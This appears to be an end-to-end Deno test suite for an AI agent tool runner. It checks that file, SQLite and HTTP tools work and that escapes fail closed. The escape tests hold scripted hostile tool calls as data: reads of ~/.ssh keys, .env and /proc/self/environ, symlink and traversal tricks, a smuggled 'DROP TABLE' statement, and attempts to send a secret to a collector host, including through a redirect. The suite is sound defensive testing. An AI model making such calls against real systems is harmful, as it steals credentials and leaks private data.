/**
 * End to end: a scripted model drives the real `pai` through each tool's
 * success path (real files, a real SQLite database, a real loopback HTTP
 * server) and through each escape, which must fail closed with nothing leaked.
 */
import assert from "node:assert/strict";
import { DatabaseSync } from "node:sqlite";
import { eventOf } from "../src/audit/events.ts";
import { firstBrokenRow } from "../src/audit/log.ts";
import { openDatabase } from "../src/store/db.ts";
import { openaiSession } from "./helpers/session.ts";
import { call, Collector, makeWorkspace, runMode, SECRET, sentToModel } from "./helpers/workspace.ts";

/** Opens a session, a workspace and a collector for one test. */
async function setup() {
  const s = await openaiSession();
  const w = await makeWorkspace();
  const collector = new Collector();
  return {
    s,
    w,
    collector,
    close: async () => {
      await collector.close();
      w.cleanup();
      await s.close();
    },
  };
}

/** What the model got back for its tool call in request `index`. */
function toolResultIn(t: Awaited<ReturnType<typeof setup>>, index: number): string {
  const messages = t.s.server.chatRequests[index].body!.messages as { role: string; content: string }[];
  return messages.filter((m) => m.role === "tool").map((m) => m.content).join("\n");
}

Deno.test("agent: fs_write, fs_edit, fs_read, fs_list and fs_search work on real files in the workspace", async () => {
  const t = await setup();
  try {
    const { run, json } = await runMode(t.s, t.w, [
      call("fs_write", { path: "notes/todo.md", content: "- buy milk\n- call Ann\n" }),
      call("fs_edit", { path: "notes/todo.md", old: "buy milk", new: "buy oat milk" }),
      call("fs_read", { path: "notes/todo.md" }),
      call("fs_list", { path: ".", recursive: true }),
      call("fs_search", { pattern: "Ann", glob: "*.md" }),
      { text: "Done." },
    ]);
    assert.equal(run.code, 0, run.stderr);
    assert.equal(Deno.readTextFileSync(`${t.w.ws}/notes/todo.md`), "- buy oat milk\n- call Ann\n");
    assert.deepEqual(json.steps.map((x) => [x.tool, x.ok]), [
      ["fs_write", true],
      ["fs_edit", true],
      ["fs_read", true],
      ["fs_list", true],
      ["fs_search", true],
    ]);
    assert.match(toolResultIn(t, 3), /buy oat milk/);
    assert.match(toolResultIn(t, 4), /notes\/todo\.md/);
    assert.match(toolResultIn(t, 5), /"line":2,"text":"- call Ann"/);
    assert.equal(json.text, "Done.");
    assert.deepEqual((json.steps[0].permissions as { write: string[] }).write, [`${t.w.ws}/notes`]);
    assert.match(run.stderr, /⚙ fs_write \{"path":"notes\/todo.md"/);
    assert.match(run.stderr, new RegExp(`✓ write of "${t.w.ws}/notes": ok`));
    // Every call, decision and result is in the audit log, chained.
    const db = openDatabase(t.s.home.dir);
    try {
      const kinds = db.prepare("SELECT kind, count(*) AS n FROM audit_log GROUP BY kind").all();
      const count = Object.fromEntries(kinds.map((k) => [k.kind, k.n]));
      assert.deepEqual([count.tool_call, count.grant, count.tool_result], [5, 5, 5]);
      const grant = eventOf(db.prepare("SELECT * FROM audit_log WHERE kind = 'grant' LIMIT 1").get()!);
      assert.ok(grant?.kind === "grant");
      assert.deepEqual([grant.tool, grant.permissions], ["fs_write", {
        read: [],
        write: [`${t.w.ws}/notes`],
        net: [],
      }]);
      assert.match(grant.reason, /^within the mode's defaults/);
      // The exact flags the tool process got: write access to that folder, and no read, net, env or run.
      assert.ok(grant.flags.includes(`--allow-write=${t.w.ws}/notes`), grant.flags.join(" "));
      assert.ok(grant.flags.includes("--no-prompt"), grant.flags.join(" "));
      assert.deepEqual(grant.flags.filter((f) => /^--allow-(read|net|env|run|ffi|sys|all)/.test(f)), []);
      const call = eventOf(db.prepare("SELECT * FROM audit_log WHERE kind = 'tool_call' LIMIT 1").get()!);
      assert.ok(call?.kind === "tool_call");
      assert.deepEqual(JSON.parse(call.arguments), { path: "notes/todo.md", content: "- buy milk\n- call Ann\n" });
      const result = eventOf(db.prepare("SELECT * FROM audit_log WHERE kind = 'tool_result' LIMIT 1").get()!);
      assert.ok(
        result?.kind === "tool_result" && result.ok && result.tool === "fs_write" && result.callId === call.callId,
      );
      assert.equal(result.size, result.content.length);
      assert.equal(await firstBrokenRow(db), undefined);
    } finally {
      db.close();
    }
  } finally {
    await t.close();
  }
});

Deno.test("agent: fs_write creates a file in an existing folder and replaces an existing file, with a grant of that file only", async () => {
  const t = await setup();
  try {
    Deno.mkdirSync(`${t.w.ws}/notes`);
    Deno.writeTextFileSync(`${t.w.ws}/old.md`, "old\n");
    const { run, json } = await runMode(t.s, t.w, [
      call("fs_write", { path: "notes/new.md", content: "new\n" }),
      call("fs_write", { path: "old.md", content: "replaced\n" }),
      { text: "Done." },
    ]);
    assert.equal(run.code, 0, run.stderr);
    assert.deepEqual(json.steps.map((x) => [x.ok, x.sentToModel.includes("permission_denied")]), [[true, false], [
      true,
      false,
    ]]);
    assert.deepEqual(json.steps.map((x) => (x.permissions as { write: string[] }).write), [
      [`${t.w.ws}/notes/new.md`],
      [`${t.w.ws}/old.md`],
    ]);
    assert.equal(Deno.readTextFileSync(`${t.w.ws}/notes/new.md`), "new\n");
    assert.equal(Deno.readTextFileSync(`${t.w.ws}/old.md`), "replaced\n");
  } finally {
    await t.close();
  }
});

Deno.test("agent: sql_query reads and writes a real SQLite database; only one statement per call", async () => {
  const t = await setup();
  try {
    const db = new DatabaseSync(`${t.w.ws}/app.db`);
    db.exec("CREATE TABLE notes (id INTEGER PRIMARY KEY, body TEXT); INSERT INTO notes (body) VALUES ('first')");
    db.close();
    const { json } = await runMode(t.s, t.w, [
      call("sql_query", { database: "app.db", sql: "INSERT INTO notes (body) VALUES (?)", params: ["second"] }),
      call("sql_query", { database: "app.db", sql: "SELECT body FROM notes ORDER BY id" }),
      call("sql_query", { database: "app.db", sql: "SELECT 1; DROP TABLE notes" }),
      { text: "ok" },
    ]);
    assert.deepEqual(json.steps.map((x) => x.ok), [true, true, false]);
    assert.match(toolResultIn(t, 2), /"rows":\[\{"body":"first"\},\{"body":"second"\}\]/);
    assert.match(toolResultIn(t, 3), /invalid_input.*exactly one statement/);
    const check = new DatabaseSync(`${t.w.ws}/app.db`);
    assert.equal(check.prepare("SELECT count(*) AS n FROM notes").get()?.n, 2);
    check.close();
  } finally {
    await t.close();
  }
});

Deno.test("chat and prompt modes: the database itself refuses a write disguised as a read", async () => {
  const t = await setup();
  try {
    const db = new DatabaseSync(`${t.w.ws}/app.db`);
    db.exec("CREATE TABLE notes (body TEXT)");
    db.close();
    // Classified as a write: chat denies it outright.
    const chat = await runMode(t.s, t.w, [
      call("sql_query", { database: "app.db", sql: "INSERT INTO notes VALUES ('x')" }),
      { text: "no" },
    ], ["prompt"]);
    assert.match(chat.json.steps[0].sentToModel, /prompt mode allows only read-only tool calls/);
    // A write hidden in a CTE that looks like a read still meets a read-only connection.
    const sneaky = await runMode(t.s, t.w, [
      call("sql_query", { database: "app.db", sql: "WITH x AS (SELECT 1) SELECT * FROM x; " }),
      { text: "fine" },
    ], ["prompt"]);
    assert.equal(sneaky.json.steps[0].ok, true);
    const after = new DatabaseSync(`${t.w.ws}/app.db`);
    assert.equal(after.prepare("SELECT count(*) AS n FROM notes").get()?.n, 0);
    after.close();
  } finally {
    await t.close();
  }
});

Deno.test("http_request and web_fetch reach a granted loopback server; the page comes back as Markdown", async () => {
  const t = await setup();
  const page = Deno.serve(
    { hostname: "127.0.0.1", port: 0, onListen: () => {} },
    (r) =>
      new URL(r.url).pathname === "/page"
        ? new Response(
          "<html><head><title>Tea</title></head><body><nav>menu</nav><article><h1>Green tea</h1>" +
            "<p>Brew at <b>80°C</b> for two minutes. It is a long paragraph about tea so that readability keeps it.</p>" +
            "<p>Another paragraph with enough words to count as the main content of the article here.</p></article></body></html>",
          { headers: { "content-type": "text/html" } },
        )
        : Response.json({ hello: "api" }),
  );
  try {
    const host = `127.0.0.1:${page.addr.port}`;
    const api = await runMode(t.s, t.w, [
      call("http_request", { method: "GET", url: `http://${host}/api` }),
      call("web_fetch", { url: `http://${host}/page` }),
      { text: "read it" },
    ], ["agent", `--allow-net=${host}`]);
    assert.match(api.json.steps[0].sentToModel, /\\"hello\\":\\"api\\"/);
    // The flow rule: once web content is in the run, a call that can send data out needs explicit approval.
    assert.equal(api.json.steps[1].ok, false);
    assert.match(
      api.json.steps[1].sentToModel,
      /web_fetch can send data out, and untrusted web content .* is in this run/,
    );
    const { json } = await runMode(t.s, t.w, [call("web_fetch", { url: `http://${host}/page` }), { text: "ok" }], [
      "agent",
      `--allow-net=${host}`,
    ]);
    assert.equal(json.steps[0].ok, true, json.steps[0].sentToModel);
    assert.match(json.steps[0].sentToModel, /# Green tea/);
    assert.match(json.steps[0].sentToModel, /Brew at \*\*80°C\*\*/);
    assert.doesNotMatch(json.steps[0].sentToModel, /<p>/);
  } finally {
    await page.shutdown();
    await t.close();
  }
});

Deno.test("escapes fail closed: outside paths, traversal, symlinks, writes outside, .env, secrets folders", async () => {
  const t = await setup();
  try {
    Deno.symlinkSync(`${t.w.outside}/secret.txt`, `${t.w.ws}/innocent.txt`);
    Deno.symlinkSync(t.w.outside, `${t.w.ws}/docs`);
    Deno.writeTextFileSync(`${t.w.ws}/.env`, `API_KEY=${SECRET}\n`);
    Deno.mkdirSync(`${t.s.home.dir}/.ssh`);
    Deno.writeTextFileSync(`${t.s.home.dir}/.ssh/id_ed25519`, SECRET);
    const attempts = [
      call("fs_read", { path: `${t.w.outside}/secret.txt` }),
      call("fs_read", { path: "../outside/secret.txt" }),
      call("fs_read", { path: "innocent.txt" }),
      call("fs_read", { path: "docs/secret.txt" }),
      call("fs_list", { path: "docs" }),
      call("fs_search", { pattern: "SECRET", path: "docs" }),
      call("fs_write", { path: `${t.w.outside}/planted.txt`, content: "x" }),
      call("fs_write", { path: "docs/planted.txt", content: "x" }),
      call("fs_edit", { path: "innocent.txt", old: "TOP", new: "x" }),
      call("fs_read", { path: ".env" }),
      call("fs_read", { path: "~/.ssh/id_ed25519" }),
      call("fs_read", { path: "/proc/self/environ" }),
      call("sql_query", { database: `${t.w.outside}/secret.txt`, sql: "SELECT 1" }),
    ];
    // Even pre-granting the home folder does not open ~/.ssh or PAI's own files.
    const { run, json } = await runMode(t.s, t.w, [...attempts, { text: "gave up" }], [
      "agent",
      `--allow-read=${t.s.home.dir}`,
    ]);
    assert.equal(run.code, 0, run.stderr);
    assert.equal(json.steps.length, attempts.length);
    for (const step of json.steps) {
      assert.equal(step.ok, false, `${step.tool} ${JSON.stringify(step.arguments)} succeeded`);
      assert.match(
        step.sentToModel,
        /permission_denied/,
        `${step.tool} ${JSON.stringify(step.arguments)}: ${step.sentToModel}`,
      );
    }
    assert.match(json.steps[2].sentToModel, /Not granted: fs_read needs read of \\".*\/outside\/secret.txt\\"/);
    assert.match(json.steps[2].sentToModel, /they can grant it with --allow-read=/);
    assert.ok(!sentToModel(t.s).includes(SECRET), "a secret reached the model");
    assert.ok(!Deno.readDirSync(t.w.outside).some((e) => e.name === "planted.txt"));
    assert.equal(Deno.readTextFileSync(`${t.w.outside}/secret.txt`), `${SECRET}\n`);
  } finally {
    await t.close();
  }
});

Deno.test("network escapes fail closed: no grant, another port, the IP for a name, a redirect to another host", async () => {
  const t = await setup();
  const redirector = Deno.serve(
    { hostname: "127.0.0.1", port: 0, onListen: () => {} },
    () => Response.redirect(`http://${t.collector.hostPort}/stolen?d=${SECRET}`, 302),
  );
  try {
    const granted = `localhost:${redirector.addr.port}`;
    const attempts = [
      call("http_request", { method: "POST", url: `http://${t.collector.hostPort}/x`, body: SECRET }),
      call("web_fetch", { url: `http://${t.collector.hostPort}/?q=${SECRET}` }),
      call("http_request", { method: "GET", url: `http://127.0.0.1:${redirector.addr.port}/` }),
      call("http_request", { method: "GET", url: `http://localhost:${redirector.addr.port}/` }),
    ];
    const { json } = await runMode(t.s, t.w, [...attempts, { text: "done" }], ["agent", `--allow-net=${granted}`]);
    assert.deepEqual(json.steps.map((x) => x.ok), [false, false, false, false]);
    assert.match(json.steps[3].sentToModel, /permission_denied|Requires net access/);
    assert.deepEqual(t.collector.hits, [], "something reached the collector");
  } finally {
    await redirector.shutdown();
    await t.close();
  }
});

Deno.test("bad tool calls get clear errors and the loop goes on: bad JSON, schema errors, unknown tools", async () => {
  const t = await setup();
  try {
    const { run, json } = await runMode(t.s, t.w, [
      { toolCalls: [{ name: "fs_read", arguments: '{"path": ' }] },
      call("fs_read", { file: "a.md" }),
      call("fs_delete_everything", {}),
      { text: "recovered" },
    ]);
    assert.equal(run.code, 0, run.stderr);
    assert.match(json.steps[0].sentToModel, /not valid JSON/);
    assert.match(json.steps[1].sentToModel, /Invalid arguments for fs_read: .*path/);
    assert.match(json.steps[2].sentToModel, /no tool \\"fs_delete_everything\\"/);
    assert.equal(json.text, "recovered");
  } finally {
    await t.close();
  }
});

Deno.test("parallel tool calls from one response are all run, and big results are capped with a note", async () => {
  const t = await setup();
  try {
    Deno.writeTextFileSync(`${t.w.ws}/big.txt`, "line of text\n".repeat(10_000));
    Deno.writeTextFileSync(`${t.w.ws}/small.txt`, "small");
    const { json } = await runMode(t.s, t.w, [
      {
        toolCalls: [
          { name: "fs_read", arguments: JSON.stringify({ path: "big.txt" }) },
          { name: "fs_read", arguments: JSON.stringify({ path: "small.txt" }) },
        ],
      },
      { text: "both" },
    ]);
    assert.deepEqual(json.steps.map((x) => x.ok), [true, true]);
    assert.match(
      json.steps[0].sentToModel,
      /\[PAI cut this result: showing the first 32000 of \d+ characters\]\n<\/tool_output>$/,
    );
    const results = (t.s.server.chatRequests[1].body!.messages as { role: string }[]).filter((m) => m.role === "tool");
    assert.equal(results.length, 2);
  } finally {
    await t.close();
  }
});

Deno.test("limits: --max-steps stops the agent, and chat runs one read-only call per turn", async () => {
  const t = await setup();
  try {
    Deno.writeTextFileSync(`${t.w.ws}/a.md`, "a");
    const loop = Array.from({ length: 5 }, () => call("fs_read", { path: "a.md" }));
    const { json } = await runMode(t.s, t.w, [...loop.slice(0, 2), { text: "final answer" }], [
      "agent",
      "--max-steps",
      "2",
    ]);
    assert.equal(json.steps.length, 2);
    assert.equal(json.stoppedBy, "max-rounds");
    assert.equal(t.s.server.chatRequests.at(-1)!.body!.tool_choice, "none");

    const before = t.s.server.chatRequests.length;
    t.s.server.enqueue(
      {
        toolCalls: [
          { name: "fs_read", arguments: '{"path":"a.md"}' },
          { name: "fs_read", arguments: '{"path":"a.md"}' },
        ],
      },
      { text: "chat answer" },
    );
    const chat = await (await import("./helpers/run_pai.ts")).runPai(["chat"], {
      home: t.s.home,
      env: t.s.env,
      cwd: t.w.ws,
      stdin: "read a.md\n",
    });
    assert.equal(chat.stdout, "chat answer\n");
    const offered = (t.s.server.chatRequests[before].body!.tools as { function: { name: string } }[])
      .map((x) => x.function.name);
    assert.ok(!offered.includes("fs_write") && offered.includes("fs_read"));
    const sent = t.s.server.chatRequests[before + 1].body!.messages as { role: string; content: string }[];
    assert.match(sent.filter((m) => m.role === "tool")[1].content, /at most 1 tool call/);
  } finally {
    await t.close();
  }
});

Deno.test("a stream that drops in the middle of a tool call's arguments never executes the call", async () => {
  const t = await setup();
  try {
    t.s.server.enqueue({
      toolCalls: [{ name: "fs_write", arguments: JSON.stringify({ path: "half.md", content: "never written" }) }],
      // Frames: role, call start, first half of the arguments — then the connection closes.
      truncateAfter: 3,
    });
    const run = await (await import("./helpers/run_pai.ts")).runPai(["agent", "write it"], {
      home: t.s.home,
      env: t.s.env,
      cwd: t.w.ws,
    });
    assert.equal(run.code, 5, run.stderr);
    assert.match(run.stdout, /\[the answer ended before it was complete\]/);
    assert.doesNotMatch(run.stderr, /⚙ fs_write/);
    assert.ok(!Deno.readDirSync(t.w.ws).some((e) => e.name === "half.md"));
    assert.equal(t.s.server.chatRequests.length, 1);
  } finally {
    await t.close();
  }
});
